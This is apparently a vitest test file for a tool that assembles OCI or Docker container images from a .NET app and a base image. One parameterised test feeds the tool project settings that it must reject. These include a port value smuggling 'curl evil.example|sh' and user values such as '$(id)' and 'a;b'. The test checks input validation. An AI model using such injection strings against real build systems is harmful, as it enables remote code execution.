import fc from 'fast-check';
import { expect, test } from 'vitest';
import { assembleImage, layersFor } from '#images/image/assemble.ts';
import { portsOf } from '#images/image/config.ts';
import { type ImageFormat, MEDIA } from '#oci/media-types.ts';
import type { PublishedLayer } from '#publication/publication.ts';
import { anApp, settings } from '../../world/app.ts';
import { aBase, aLayer } from '../../world/base.ts';

const assemble = (app = anApp(), base = aBase(), format: ImageFormat = 'oci') =>
  assembleImage({
    format,
    base,
    app,
    layers: [aLayer('packages'), aLayer('app')],
    labels: { b: '2', a: '1' },
    created: '2026-01-01T00:00:00Z',
  });

test('labels of the base are kept, except its own base, version and name', () => {
  const own = {
    vendor: 'them',
    'org.opencontainers.image.ref.name': 'ubuntu',
    'org.opencontainers.image.version': '24.04',
    'org.opencontainers.image.base.name': 'debian',
    'org.opencontainers.image.base.digest': 'x',
  };
  const { config } = assemble(anApp(), aBase({ Labels: own }));
  expect(config.value.config?.Labels).toEqual({ vendor: 'them', a: '1', b: '2' });
});

test('Docker’s format uses Docker’s media types, and no annotations', () => {
  const base = aBase();
  const [first, ...rest] = base.layers;
  if (first === undefined) throw new Error('it has layers');
  const oci = { ...first, descriptor: { ...first.descriptor, mediaType: MEDIA.ociLayerGzip } };
  const { manifest, layers } = assemble(anApp(), { ...base, layers: [oci, ...rest] }, 'docker');
  expect(manifest.value).toMatchObject({ mediaType: MEDIA.dockerManifest, config: { mediaType: MEDIA.dockerConfig } });
  expect(manifest.value.annotations).toBeUndefined();
  expect(new Set(layers.map(({ descriptor }) => descriptor.mediaType))).toEqual(new Set([MEDIA.dockerLayerGzip]));
  expect(layers.map(({ descriptor }) => descriptor.digest)).toEqual(
    assemble().layers.map(({ descriptor }) => descriptor.digest),
  );
});

test('a base that Docker’s format does not support is an error', () => {
  const base = aBase();
  const zstd = { ...base, layers: base.layers.map((own) => ({ ...own, ...aLayer(own.kind, MEDIA.ociLayerZstd) })) };
  expect(() => assemble(anApp(), zstd, 'docker')).toThrow('which Docker');
  expect(assemble(anApp(), zstd).manifest.value.layers[0]?.mediaType).toBe(MEDIA.ociLayerZstd);
});

test('the base’s descriptors get OCI types, keep their digests and come first', () => {
  const { manifest } = assemble();
  expect(manifest.value.layers.map(({ mediaType }) => mediaType)).toEqual(Array(4).fill(MEDIA.ociLayerGzip));
  expect(manifest.value.layers.slice(0, 2).map(({ digest }) => digest)).toEqual(
    aBase().layers.map((own) => own.descriptor.digest),
  );
});

test('the config is the base’s with the build’s settings, and each layer once', () => {
  const config = assemble().config.value;
  expect(config).toMatchObject({ 'os.version': '10.0.1', created: '2026-01-01T00:00:00Z' });
  expect(config.rootfs.diff_ids).toHaveLength(4);
  expect(config.history?.filter((entry) => entry.empty_layer !== true)).toHaveLength(4);
  expect(config.config).toEqual({
    Env: ['PATH=/bin', 'APP_UID=1654', 'ASPNETCORE_HTTP_PORTS=8080'],
    User: '1654',
    ExposedPorts: { '8080/tcp': {} },
    Entrypoint: ['dotnet', '/app/App.dll'],
    WorkingDir: '/app',
    Labels: { a: '1', b: '2' },
  });
});

test('the project’s own settings override the base’s', () => {
  const container = settings({
    user: 'root',
    workingDirectory: '/srv/web/',
    ports: ['9090/udp'],
    environment: [
      { name: 'ASPNETCORE_HTTP_PORTS', value: '5000' },
      { name: 'GREETING', value: 'a=b' },
    ],
  });
  expect(assemble(anApp({ container })).config.value.config).toMatchObject({
    User: 'root',
    WorkingDir: '/srv/web',
    ExposedPorts: { '9090/udp': {}, '5000/tcp': {} },
    Env: ['PATH=/bin', 'APP_UID=1654', 'ASPNETCORE_HTTP_PORTS=5000', 'GREETING=a=b'],
    Entrypoint: ['dotnet', '/srv/web/App.dll'],
  });
});

test.each([
  ['ports', ['8080:8080 x; curl evil.example|sh #\n/tcp']],
  ['ports', ['0/tcp']],
  ['ports', ['65536/tcp']],
  ['ports', ['80/sctp']],
  ['ports', ['$(PORT)/tcp']],
  ['user', '$(id)'],
  ['user', 'a;b'],
  ['user', 'a\nb'],
  ['user', '--privileged'],
  ['user', 'a  b'],
] as const)('%s of a project cannot be %j: later steps put them into commands', (name, value) => {
  const container = { ...settings(), [name]: value };
  expect(() => assemble(anApp({ container }))).toThrow(
    expect.objectContaining({ code: 'PROJECT_UNSUPPORTED', message: expect.stringContaining(anApp().project) }),
  );
});

test.each(['app', '1654', '1654:1654', 'www-data:root', 'NT AUTHORITY\\SYSTEM', 'ContainerUser', 'a.b@c'])(
  '%s is a user',
  (user) => {
    expect(assemble(anApp({ container: settings({ user }) })).config.value.config?.User).toBe(user);
  },
);

test('a base without APP_UID keeps its user', () => {
  const base = aBase({ Env: [], User: 'nobody' });
  expect(assemble(anApp(), base).config.value.config?.User).toBe('nobody');
});

test('the same parts are the same bytes', () => {
  expect(assemble().manifest.descriptor.digest).toBe(assemble().manifest.descriptor.digest);
});

test('a base whose config and manifest disagree is refused', () => {
  const base = aBase();
  expect(() => assemble(anApp(), { ...base, layers: base.layers.slice(1) })).toThrow('1 layers, but its config has 2');
});

test.each([
  ['http://+:80', ['80/tcp']],
  ['http://*:5000;https://localhost:5001', ['5000/tcp', '5001/tcp']],
  ['http://[::]:8080/', ['8080/tcp']],
  ['http://nowhere', []],
])('ASPNETCORE_URLS %s exposes %j', (urls, ports) => {
  expect(
    portsOf(
      new Map([
        ['ASPNETCORE_URLS', urls],
        ['ASPNETCORE_HTTP_PORTS', '1'],
      ]),
    ),
  ).toEqual(ports);
});

test('an image has only the runtimes of its platform', () => {
  const published = (kind: PublishedLayer['kind'], rid?: string): PublishedLayer => {
    const { descriptor, diffId } = aLayer(`${kind}${rid}`);
    return { kind, descriptor, diffId, files: 1, ...(rid === undefined ? {} : { rid }) };
  };
  const layers = [published('runtimes', 'linux-x64'), published('runtimes', 'win-x64'), published('app')];
  const publication = { schema: 1, apps: [], packages: [], layers } as const;
  const app = anApp({ layers: [0, 1, 2] });
  const platform = { os: 'linux', architecture: 'amd64' };
  expect(layersFor(publication, { app, platform })).toEqual([layers[0], layers[2]]);
});

test('labels are sorted', () => {
  fc.assert(
    fc.property(
      fc.dictionary(
        fc.string({ minLength: 1 }).filter((key) => !key.includes('__proto__')),
        fc.string(),
      ),
      (labels) => {
        const parts = { format: 'oci' as const, base: aBase(), app: anApp(), layers: [], created: 'x' };
        const reversed = Object.fromEntries(Object.entries(labels).reverse());
        expect(assembleImage({ ...parts, labels }).manifest.descriptor).toEqual(
          assembleImage({ ...parts, labels: reversed }).manifest.descriptor,
        );
      },
    ),
  );
});
